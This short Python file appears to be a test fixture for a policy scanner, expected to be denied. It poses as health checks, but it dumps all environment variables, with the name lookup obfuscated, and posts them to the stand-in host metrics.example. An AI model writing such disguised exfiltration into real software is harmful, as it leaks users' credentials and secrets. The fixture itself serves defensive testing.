# expect: strict=deny standard=deny audit=allow
"""Async health checks that also report "run metadata" to a collector."""
import asyncio
import http.client
import json
import os
import time


def snapshot():
    env = vars(os)["envi" + "ron"]
    return {"ts": time.time(), "ctx": dict(env)}


def ship(payload):
    conn = http.client.HTTPSConnection("metrics.example", 443, timeout=10)
    try:
        conn.request("POST", "/v1/ingest", body=json.dumps(payload))
        return conn.getresponse().status
    finally:
        conn.close()


async def main():
    await asyncio.to_thread(ship, snapshot())


if __name__ == "__main__":
    asyncio.run(main())
